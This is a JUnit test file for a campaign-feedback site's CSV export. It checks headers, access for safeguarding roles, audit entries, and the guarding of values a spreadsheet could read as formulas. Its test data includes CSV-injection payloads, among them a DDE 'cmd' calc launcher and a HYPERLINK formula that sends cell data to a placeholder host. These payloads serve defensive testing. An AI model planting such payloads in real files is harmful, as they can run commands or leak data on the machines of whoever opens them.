package org.sayso.search;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.NamedCsvRecord;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Function;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.sayso.campaign.Campaign;
import org.sayso.cast.Database;
import org.sayso.cast.TestSite;
import org.sayso.cast.Visitor;
import org.sayso.feedback.Outbox;
import org.sayso.feedback.ReceiveResponse;
import org.sayso.feedback.Response;
import org.sayso.feedback.ResponseRepository;
import org.sayso.feedback.TakeBack;
import org.sayso.staff.AuditEntryRepository;
import org.sayso.staff.Role;
import org.sayso.web.CsvCell;

class ExportTest {
    private static final List<String> HARD = List.of(
            "plain words", "commas, semicolons; and \"quotes\"", "two\nlines\n\nand more", "مرحبا hello שלום", "🛹 👨‍👩‍👧‍👦", "ends with a quote\"", "x".repeat(2000),
            "safe\n=1+1", "safe;=1+1", "safe,=1+1", "'quoted'", "\uFEFFbom", "it's fine", "a|b|c");
    private static final List<String> FORMULAS = List.of(
            "=1+1", "+1+1", "-1+1", "@SUM(1)", " =1+1", "\u00a0=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "\uFF1D1+1", "\uFF0B1",
            "\u200b=1+1", "\"=1+1", "'=1+1", "−2");
    private static TestSite site;
    private static Campaign campaign;
    private static String lead;

    @BeforeAll
    static void start() {
        site = TestSite.start(Database.H2.freshProperties());
        campaign = site.openCampaign();
        HARD.forEach(words -> heard(words, words));
        FORMULAS.forEach(words -> heard(words, words));
        Response kept = site.heard(campaign, "Kept with Mr Example in it", true);
        Response concern = site.heard(campaign, "Only for safeguarding", true);
        site.the(ResponseRepository.class).decide(kept.id(), "KEPT_PRIVATE", "name_in_it", "Kept with [name taken out] in it", java.time.Instant.now());
        site.the(ResponseRepository.class).decide(concern.id(), "CONCERN", null, null, null);
        site.the(Outbox.class).touched(List.of(kept.id(), concern.id()));
        site.the(TakeBack.class).takeBack(site.heard(campaign, "Taken back again", true).id());
        site.settled();
        lead = site.token(Role.PLAN_LEAD);
    }

    @AfterAll
    static void stop() {
        site.close();
    }

    private static void heard(String words, String externalId) {
        String shortId = externalId.length() > 100 ? externalId.substring(0, 100) : externalId;
        site.the(ReceiveResponse.class).receive(campaign, new ReceiveResponse.Sent(
                words, "young_person", "14_16", "purbeck", true, UUID.randomUUID().toString(), "import", shortId, null));
    }

    private static Visitor.Answer table(Campaign of, String token) {
        return site.visitor().json("GET", "/api/v1/campaigns/" + of.slug() + "/responses.csv", token, null);
    }

    private static List<NamedCsvRecord> rows(String body) {
        try (CsvReader<NamedCsvRecord> reader = CsvReader.builder().ofNamedCsvRecord(body)) {
            return reader.stream().toList();
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
    }

    @Test
    void theTableHasTheHeaderThatIsPromised() {
        Visitor.Answer answer = table(campaign, lead);
        assertEquals(200, answer.status());
        assertEquals(CsvRows.HEADER, answer.body().substring(0, CsvRows.HEADER.length()));
        assertEquals("id,external_id,text,who,age_band,area,language,stage,priority,confidence,priorities,themes,confirmed_by,kept_private_for,suggested,said_by,group_kind", answer.body().split("\n")[0]);
        assertEquals("text/csv;charset=utf-8", answer.header("Content-Type"));
        assertEquals("no-store", answer.header("Cache-Control"));
        assertTrue(answer.header("Content-Disposition").startsWith("attachment; filename=\"" + campaign.slug()));
    }

    @Test
    void wordsComeBackAsTheyWereSaid() {
        Map<String, NamedCsvRecord> byText = rows(table(campaign, lead).body()).stream().collect(Collectors.toMap(r -> r.getField("text"), Function.identity()));
        for (String words : HARD) {
            assertTrue(byText.containsKey(words), words);
        }
        for (String words : FORMULAS) {
            assertTrue(byText.containsKey("'" + words), "guarded: " + words);
            assertTrue(byText.get("'" + words).getField("external_id").startsWith("'"));
        }
        assertEquals(HARD.size() + FORMULAS.size() + 1, byText.size(), "without what was taken back and without the concern");
    }

    @Test
    void eachRowSaysWhatIsKnown() {
        NamedCsvRecord plain = rows(table(campaign, lead).body()).stream().filter(r -> r.getField("text").equals("plain words")).findFirst().orElseThrow();
        assertEquals("young_person", plain.getField("who"));
        assertEquals("14_16", plain.getField("age_band"));
        assertEquals("purbeck", plain.getField("area"));
        assertEquals("received", plain.getField("stage"));
        assertEquals(plain.getField("priorities"), plain.getField("priority"));
        assertFalse(plain.getField("confidence").isEmpty());
        assertEquals("", plain.getField("confirmed_by"));
        NamedCsvRecord kept = rows(table(campaign, lead).body()).stream().filter(r -> r.getField("text").startsWith("Kept")).findFirst().orElseThrow();
        assertEquals("Kept with [name taken out] in it", kept.getField("text"));
        assertEquals("kept_private", kept.getField("stage"));
        assertEquals("name_in_it", kept.getField("kept_private_for"));
    }

    @Test
    void onlyASafeguardingLeadGetsTheConcern() {
        assertFalse(table(campaign, lead).body().contains("Only for safeguarding"));
        assertFalse(table(campaign, site.token(Role.MODERATOR)).body().contains("Only for safeguarding"));
        assertTrue(table(campaign, site.token(Role.SAFEGUARDING_LEAD)).body().contains("Only for safeguarding"));
        assertFalse(table(campaign, site.token(Role.SAFEGUARDING_LEAD)).body().contains("Taken back"));
    }

    @Test
    void whoeverIsGivenAConcernIsWrittenDownWithIt() {
        String concern = site.the(ResponseRepository.class).queue("dorset", "CONCERN", 10, 0).getFirst().id();
        long before = viewed(concern);
        table(campaign, lead);
        assertEquals(before, viewed(concern), "a plan lead was not given it");
        table(campaign, site.token(Role.SAFEGUARDING_LEAD));
        assertEquals(before + 1, viewed(concern));
    }

    private static long viewed(String concern) {
        return java.util.stream.StreamSupport.stream(site.the(AuditEntryRepository.class).findAll().spliterator(), false)
                .filter(e -> e.act().equals("viewed-concern") && e.subject().equals("response " + concern) && "exported".equals(e.detail())).count();
    }

    @Test
    void anUnknownOrForeignCampaignIsNotFound() {
        assertEquals(404, table(site.campaignOf("poole"), lead).status());
        assertEquals(404, site.visitor().json("GET", "/api/v1/campaigns/no-such-one/responses.csv", lead, null).status());
    }

    @Test
    void manyRowsOfOneMomentAreAllThereOnce() {
        Campaign many = site.openCampaign();
        var at = java.time.Instant.parse("2026-03-01T10:00:00Z");
        for (int i = 0; i < 1203; i++) {
            site.the(ReceiveResponse.class).receive(many, new ReceiveResponse.Sent("Row " + i, null, null, null, false, UUID.randomUUID().toString(), "import", "r" + i, at));
        }
        List<NamedCsvRecord> rows = rows(table(many, lead).body());
        assertEquals(1203, rows.size());
        assertEquals(1203, rows.stream().map(r -> r.getField("id")).distinct().count());
    }

    @ParameterizedTest
    @ValueSource(strings = {"\t=1+1", "\r=1+1", "\n=1+1", "=", "  +x", "\u3000@x", "\uFF0D1", "\uFF20x"})
    void whatASpreadsheetCouldTakeForAFormulaIsGuarded(String value) {
        assertEquals("'" + value, CsvCell.guarded(value));
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "words", "1+1=2", "a@b", "'t is", "“hello”", "3 - 2"})
    void otherWordsStayAsTheyAre(String value) {
        assertEquals(value, CsvCell.guarded(value));
    }
}
